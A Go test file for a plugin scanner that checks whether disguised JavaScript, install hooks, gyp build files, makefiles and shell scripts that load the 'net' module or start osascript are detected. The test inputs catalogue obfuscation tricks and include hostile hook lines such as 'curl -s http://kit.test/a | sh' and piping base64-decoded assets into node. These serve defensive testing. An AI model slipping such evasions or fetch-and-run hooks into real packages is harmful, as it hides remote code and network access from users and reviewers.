package javascript

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"

	"plugvet/scanner/inspect/script"
)

// Each of these loads net, in the order in which a script really runs.
func TestScriptRunsInItsOrder(t *testing.T) {
	for name, src := range map[string]string{
		"delegated generator":    `function* a() { yield 'n'; return 'e' } function* b() { const m = yield* a(); yield m; yield* ['t'] } require([...b()].join(''))`,
		"sent into a generator":  `function* f() { let s = ''; for (;;) { const c = yield s; if (!c) return s; s += c } } const g = f(); g.next(); g.next('n'); g.next('et'); require(g.next().value)`,
		"endless generator":      `function* f() { for (const c of 'net') yield c; for (;;) yield '' } let s = ''; for (const c of f()) { if (!c) break; s += c } require(s)`,
		"driven generator":       `const it = (function* () { const n = yield 'net'; require(n) })(); it.next(it.next().value)`,
		"asynchronous generator": `async function* f() { yield await Promise.resolve('n'); yield 'et' } (async () => { let s = ''; for await (const c of f()) s += c; require(s) })()`,
		"rejected promise":       `Promise.reject('n').catch(c => c + 'et').then(require)`,
		"all of several":         `Promise.all([Promise.race(['n']), Promise.any([Promise.reject(1), 'e']), Promise.allSettled(['t'])]).then(([a, b, [c]]) => require(a + b + c.value))`,
		"settled by a timer":     `const wait = v => new Promise(r => setTimeout(r, 1, v)); (async () => require(await wait('n') + await wait('et')))()`,
		"settled from outside":   `let open; const p = new Promise(r => { open = r }); p.then(require); open(['n', 'et'].join(''))`,
		"thenable":               `(async () => require(await { then(f) { f('n' + ['et']) } }))()`,
		"queue":                  `let s = ''; const q = [() => { s += 'n' }, () => { s += 'et' }, () => require(s)]; (function next() { const f = q.shift(); if (f) { f(); queueMicrotask(next) } })()`,
		"events.once":            `const { once, EventEmitter } = require('events'); const e = new EventEmitter(); (async () => { const [n] = await once(e, 'x'); require(n) })(); e.emit('x', ['n', 'et'].join(''))`,
		"event with a detail":    `const t = new EventTarget(); t.addEventListener('x', e => require(e.detail)); t.dispatchEvent(new CustomEvent('x', { detail: 'n' + ['et'] }))`,
		"posted message":         `const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => require(data.join('')); port2.postMessage(['n', 'et'])`,
		"abort":                  `const c = new AbortController(); c.signal.addEventListener('abort', () => require(c.signal.reason)); c.abort(['n', 'et'].join(''))`,
		"at the end":             `let s = 'n'; process.on('exit', () => require(s)); s += 'et'`,
		"stream":                 `const { PassThrough } = require('stream'); const p = new PassThrough(); let s = ''; p.on('data', d => { s += d }).on('end', () => require(s)); p.write('n'); p.end('et')`,
		"callback of zlib":       `require('zlib').inflate(Buffer.from('eJzLSy0BAAKGAUg=', 'base64'), (e, b) => require(b.toString()))`,
		"with over a proxy":      `with (new Proxy({}, { has: (t, k) => k === 'x', get: () => 'n' + ['et'] })) { require(x) }`,
		"keys of a proxy":        `require(Object.keys(new Proxy({}, { ownKeys: () => ['n', 'et'] })).join(''))`,
		"new of a proxy":         `const P = new Proxy(class {}, { construct: (t, [n]) => ({ m: require(n.trim()) }) }); new P(' net ')`,
		"descriptor of a getter": `class A { get m() { return require(this.n) } } Object.getOwnPropertyDescriptor(A.prototype, 'm').get.call({ n: ['n', 'et'].join('') })`,
		"brand":                  `class A { #a = 'n'; m() { return #a in this ? require(this.#a + 'et') : 0 } } new A().m()`,
		"added to texts":         `String.prototype.load = function () { return require(this.split('').reverse().join('')) }; 'ten'.load()`,
		"added to lists":         `Object.defineProperty(Array.prototype, 'm', { get() { return require(this.join('')) } }); ['n', 'et'].m`,
		"hasInstance":            `class A { static [Symbol.hasInstance](n) { return n > 0 } } require(['', 'n', 'et'].filter((s, i) => i instanceof A).join(''))`,
		"error of the engine":    `let s = 'n'; try { JSON.parse('{'); s = 'x' } catch { s += 'et' } require(s)`,
		"defaults":               `const { A: a = 'n', B: b = 'et' } = process.env; require([a, b].join(''))`,
		"own name":               `(function f(s) { return s.length < 3 ? f(s + (s === 'n' ? 'e' : 't')) : require(s) })('n')`,
		"resolver":               `const M = require('module'), f = M._resolveFilename; M._resolveFilename = (n, ...r) => f(n === './x' ? 'n' + 'et' : n, ...r); require('./x')`,
		"loader":                 `const M = module.constructor, f = M._load; M._load = (n, ...r) => f([...n].reverse().join(''), ...r); require('ten')`,
		"searched globals":       `const [, { value: p }] = Object.entries(Object.getOwnPropertyDescriptors(globalThis)).find(([k]) => /^proc.{3}$/.test(k)); p.mainModule.require('n' + 'et')`,
		"namespace":              `import * as m from 'module'; const [, f] = Object.entries(m).find(([k]) => k.startsWith('createR')); f(import.meta.url)(['n', 'et'].join(''))`,
		"worker by itself":       `const { Worker, isMainThread, parentPort } = require('worker_threads'); if (isMainThread) new Worker(__filename).postMessage(['n', 'et']); else parentPort.on('message', m => require(m.join('')))`,
	} {
		if got := uses(Read([]byte(src))); !strings.Contains(got, "module net") {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// A script may make names of the one that its file has.
func TestOwnFileNameIsKnown(t *testing.T) {
	for src, file := range map[string]string{
		`require(require('path').parse(module.filename).name)`:                                                                   "lib/net.js",
		`require(module.id.slice(module.path.length + 1, -3))`:                                                                   "lib/net.js",
		`require(require('path').parse(__filename).name)`:                                                                        "lib/net.js",
		`import { basename } from 'path'; import(basename(import.meta.filename, '.mjs'))`:                                        "net.mjs",
		`import { createRequire } from 'module'; createRequire(import.meta.url)(import.meta.url.split('/').pop().split('.')[0])`: "net.min.mjs",
		`import { createRequire as nodeRequire } from 'node:module'; nodeRequire(import.meta.url)('n' + 'et')`:                   "index.mjs",
		`const { createRequire: _require } = require('node:module'); const get = _require(__filename); get('n' + 'et')`:          "index.js",
		`const [n] = [__filename.slice(-6, -3)]; const f = () => require(n); f()`:                                                "a/b/net.js",
		`require(require('url').fileURLToPath('file:///n%65t').slice(1))`:                                                        "index.js",
	} {
		if got := uses(ReadFile(file, []byte(src))); !strings.Contains(got, "module net") {
			t.Errorf("%s: %s: %q", file, src, got)
		}
	}
}

// Whatever calls eval or makes a function evaluates the text that it is given.
func TestCodeIsReadWhoeverEvaluatesIt(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte(code))
	for name, src := range map[string]string{
		"forEach":         "[`\\x72equire('net')`].forEach(eval)",
		"map":             fmt.Sprintf(`[%q].map(atob).map(eval)`, encoded),
		"then":            `Promise.resolve("require('n" + "et')").then(eval)`,
		"replace":         `"require('net')".replace(/^.+$/, eval)`,
		"Array.from":      `Array.from(["require('net')"], eval)`,
		"event":           `const e = new (require('events'))(); e.on('x', eval); e.emit('x', "require('n" + "et')")`,
		"timer":           `setTimeout(eval, 1, ["require('n", "et')"].join(''))`,
		"proxy":           `new Proxy(eval, { apply: (f, s, [a]) => f(a.split('').reverse().join('')) })(")'ten'(eriuqer")`,
		"tag":             "Function`require('net')```",
		"apply":           `Function.apply(null, ['r', 'x', 'return r(x)'])(require, 'net')`,
		"bind":            `const F = Function.bind(null, 'r'); new F("return r('net')")(require)`,
		"list of steps":   fmt.Sprintf(`[atob, eval].reduce((v, f) => f(v), %q)`, encoded),
		"shell's context": `const s = require('repl').start({ input: require('stream').Readable.from(['a = part + "t"\n', 'globalThis[a].connect(os.constants.signals.SIGHUP)\n']) }); Object.assign(s.context, { part: 'ne' })`,
		"inspector":       `const { Session } = require('inspector'); const s = new Session(); s.post('Runtime.evaluate', { expression: ["require('n", "et')"].join('') })`,
		"wrapper":         `require('vm').runInThisContext(require('module').wrap("require('net')"))`,
		"written":         `const fs = require('fs'), f = require('os').tmpdir() + '/a.js'; fs.writeFileSync(f, ["require('n", "et')"].join('')); require(f)`,
		"streamed":        `const f = require('os').tmpdir() + '/a.mjs', w = require('fs').createWriteStream(f); w.write('import "n'); w.write('et"'); w.end(() => import(f))`,
		"input of node":   `const c = require('child_process').spawn('node', ['-']); c.stdin.end("require('net')")`,
		"handed to files": `require('./load')(['child', 'process'].join('_')); require('net')`,
	} {
		if got := uses(Read([]byte(src))); !strings.Contains(got, "module net") {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// The debugger's protocol has objects by their names, and functions called with them.
func TestWhatTheDebuggerCallsIsEvaluated(t *testing.T) {
	const start = `const { Session } = require('inspector'), s = new Session(); s.connect(); `
	for name, src := range map[string]string{
		"an object":     start + `s.post('Runtime.evaluate', { expression: 'require' }, (e, { result: { objectId } }) => s.post('Runtime.callFunctionOn', { objectId, functionDeclaration: 'function (a) { return this(a) }', arguments: [{ value: 'n' + 'et' }] }))`,
		"an answer":     start + `let got; s.post('Runtime.evaluate', { expression: 'require' }, (e, r) => { got = e ? null : r.result }); s.post('Runtime.callFunctionOn', { objectId: got.objectId, functionDeclaration: 'function (a) { return this(a.join("")) }', arguments: [{ value: ['n', 'et'] }] })`,
		"two objects":   start + `const ask = (m, p) => { let id; s.post(m, p, (e, r) => { id = r.result.objectId }); return id }; s.post('Runtime.callFunctionOn', { functionDeclaration: '(f, l) => f(l.join(""))', arguments: [{ objectId: ask('Runtime.evaluate', { expression: 'require' }) }, { objectId: ask('Runtime.evaluate', { expression: '["n", "et"]' }) }] })`,
		"a value alone": start + `s.post('Runtime.callFunctionOn', { functionDeclaration: 'function (a) { return process.mainModule.require(a) }', arguments: [{ value: 'n' + 'et' }] })`,
		"promises":      `const { Session } = require('inspector/promises'); (async s => { const { result: { objectId } } = await s.post('Runtime.evaluate', { expression: 'require' }); await s.post('Runtime.callFunctionOn', { objectId, functionDeclaration: 'function (a) { return this(a) }', arguments: [{ value: 'n' + 'et' }] }) })(new Session())`,
	} {
		if got := uses(Read([]byte(src))); !strings.Contains(got, "module net") {
			t.Errorf("%s: %q", name, got)
		}
	}
	const read = `s.post('Runtime.evaluate', { expression: require('fs').readFileSync(require('path').join(__dirname, 'x', name), 'utf8') })`
	for name, src := range map[string]string{
		"a file":       start + `const name = 'x.txt'; ` + read,
		"files listed": start + `for (const name of require('fs').readdirSync(__dirname + '/x')) ` + read,
	} {
		if v := Read([]byte(src)); v.Open&script.OpenToFiles == 0 || !strings.Contains(uses(v), "call eval:file") {
			t.Errorf("%s: open to %v, %q", name, v.Open, uses(v))
		}
	}
	honest := start + `s.post('Profiler.enable', () => s.post('Profiler.start')); s.post('Runtime.evaluate', { expression: '1 + 1' }, (e, { result }) => console.log(result.value))`
	if got := uses(Read([]byte(honest))); strings.Contains(got, "net") || strings.Contains(got, "eval:") {
		t.Errorf("a number is asked for: %q", got)
	}
}

func TestProgramsAreKnownWhoeverRunsThem(t *testing.T) {
	const load = `const cp = require('child_process'), fs = require('fs'), os = require('os'); `
	for src, want := range map[string]bool{
		load + `const s = cp.spawn('sh'); s.stdin.write('osa'); s.stdin.end('script -e beep')`:                            true,
		load + `cp.execFileSync('sh', ['-s'], { input: Buffer.from('6f7361736372697074202d65', 'hex') })`:                 true,
		load + `const f = os.tmpdir() + '/a'; fs.writeFile(f, '#!/usr/bin/osa' + 'script', () => cp.execFile(f))`:         true,
		load + `const f = os.tmpdir() + '/a'; fs.writeFileSync(f, 'a=osa; ${a}script -e beep'); cp.spawn('sh', [f])`:      true,
		load + `process.env.KIT = ['osa', 'script'].join(''); cp.execSync('$KIT -e beep')`:                                true,
		load + `cp.exec('beep', { shell: '/usr/bin/' + 'osa'.concat('script') })`:                                         true,
		load + `cp.execFile('find', ['/', '-exec', ['osa', 'script'].join(''), ';'])`:                                     true,
		load + `cp.execFile('perl', ['-e', "system('osa' . 'script')"])`:                                                  true,
		load + `const f = os.tmpdir() + '/a'; fs.writeFileSync(f, 'a=osa; ${a}script -e beep'); cp.spawn('ls', ['/etc'])`: false,
		load + `const s = cp.spawn('cat'); s.stdin.end('osascript -e beep')`:                                              false,
		load + `const s = cp.spawn(['/bin/zsh', '/bin/sh'].find(fs.existsSync)); s.stdin.end('osa' + 'script -e beep')`:   true,
		load + `cp.execFile('perl', ['-e', "print 'beep'"])`:                                                              false,
	} {
		if got := strings.Contains(uses(Read([]byte(src))), "start:osascript"); got != want {
			t.Errorf("%s: %v", src, got)
		}
	}
}

func TestLoaderThatIsToldEverythingIsNoted(t *testing.T) {
	for src, want := range map[string]bool{
		`module.exports = (n, m, a) => require(n)[m](a)`:               true,
		`module.exports = n => require(n)`:                             false,
		`module.exports = n => require(n).default({})`:                 false,
		`module.exports = (n, m) => require(n)[m]`:                     false,
		`module.exports = (n, a) => require(n)(a)`:                     false,
		`for (const n of names) module.exports[n] = require('./' + n)`: false,
	} {
		if got := strings.Contains(uses(Read([]byte(src))), "load:any"); got != want {
			t.Errorf("%s: %v", src, got)
		}
	}
}

func TestHooksAndBuildFilesTellWhatTheyRun(t *testing.T) {
	for _, c := range []struct{ name, got, want string }{
		{"decoded hook", uses(ReadManifest([]byte(`{"scripts": {"preinstall": "base64 -d assets/logo | node -"}}`), nil)), "call eval:decoded"},
		{"binding.gyp", uses(ReadBuild([]byte(`{"targets": [{"sources": ["<!(node -e \"require('net')\")"]}]}`))), "module net"},
		{"substitution in quotes", uses(ReadBuild([]byte(`{'variables': {'x%': '<!(node -e "require(\'net\')")'}}`))), "module net"},
		{"what gyp downloads", uses(ReadBuild([]byte(`{"targets": [{"sources": ["<!(curl -s http://kit.test/a | sh; python3 a.py)"]}]}`))), "call install:fetch, call install:run-fetched"},
		{"action of gyp", uses(ReadBuild([]byte("{'actions': [{'action': ['sh', '-c', 'osa' # joined\n 'script -e beep']}]}"))), "call start:osascript*"},
		{"makefile", uses(ReadMakefile([]byte("T := $(subst x,osa,xscript)\nall:\n\t$(T) -e beep\n"))), "call start:osascript*"},
		{"Perl", uses(ReadProgram([]byte(`my $t = "osa" . "script"; system($t, "-e");`))), "call start:osascript*"},
		{"shell script", uses(ReadShell([]byte("a=osa\nrun() { \"${a}script\" -e beep; }\n"))), "call start:osascript*"},
		{"node in a shell script", uses(ReadShell([]byte("set -e\nnode -e \"require(['n', 'et'].join(''))\"\n"))), "module net*"},
		{"input of node", uses(ReadShell([]byte("node - <<'E'\nrequire(['n', 'et'].join(''))\nE\n"))), "module net*"},
		{"file for node", uses(ReadManifest([]byte(`{"scripts": {"install": "node < ./lib/x.txt"}}`), nil)), "module ./lib/x.txt"},
		{"node's globals", uses(ReadManifest([]byte(`{"scripts": {"install": "node -e \"net.connect(80)\""}}`), nil)), "module net*, call net.connect"},
		{"shell script of a hook", uses(ReadManifest([]byte(`{"scripts": {"install": "sh ./tools/x.sh"}}`), &script.Siblings{
			Files: []script.Sibling{{Name: "tools/x.sh", Data: []byte("cd \"$(dirname \"$0\")\"\nnode -e \"require(['n', 'et'].join('')); require('./y')\"\n")}},
			Loads: []map[string]int{{"./tools/x.sh": 1}},
		})), "module net*, module ./tools/y"},
	} {
		if c.got != c.want {
			t.Errorf("%s: %q, want %q", c.name, c.got, c.want)
		}
	}
	if v := ReadManifest([]byte(`{"scripts": {"install": "./tools/x.sh"}}`), nil); v == nil || !slices.Contains(v.Asks, script.AskedFile+"./tools/x.sh") {
		t.Error("a shell script of a hook is not asked for")
	}
	for _, hook := range []string{`cat a | node -`, `echo x | base64 -d > y`, `node -e 0 | base64`} {
		if ReadManifest([]byte(fmt.Sprintf(`{"scripts": {"install": %q}}`, hook)), nil) != nil {
			t.Errorf("%s is noted", hook)
		}
	}
	if ReadProgram([]byte(`print("osascript")`)) != nil {
		t.Error("a program that starts none has a view")
	}
	if ReadBuild([]byte(`{"targets": [{"sources": ["<!(ls src)"], "action": ["cp", "osascript"`)) != nil || ReadShell([]byte("echo osascript")) != nil {
		t.Error("harmless files have a view")
	}
}

// A hook that is asked about its own answer would never end.
func TestAResolverIsNotAskedAboutWhatItGives(t *testing.T) {
	src := `const M = require('module'); M._resolveFilename = name => name + 'x'; require('a')`
	if got := uses(Read([]byte(src))); !strings.Contains(got, "module ax") || strings.Contains(got, "module axx") {
		t.Errorf("%s\nuses %s", src, got)
	}
}

func TestAWordOfATableIsNotHandedToALoader(t *testing.T) {
	const hands = `const has = other(1); require(process.argv[2]); `
	for src, want := range map[string]string{
		hands + `for (const n in JSON.parse('{"net":true,"fs":true}')) has(table, n)`:         "",
		hands + `has(table, ['n', 'et'].join(''))`:                                            "module net",
		hands + `const words = ['child_process']; has(table, ['child', 'process'].join('_'))`: "module child_process",
	} {
		if got := uses(Read([]byte(src))); want == "" && strings.Contains(got, "module") || !strings.Contains(got, want) {
			t.Errorf("%s: uses %q, want %q", src, got, want)
		}
	}
}
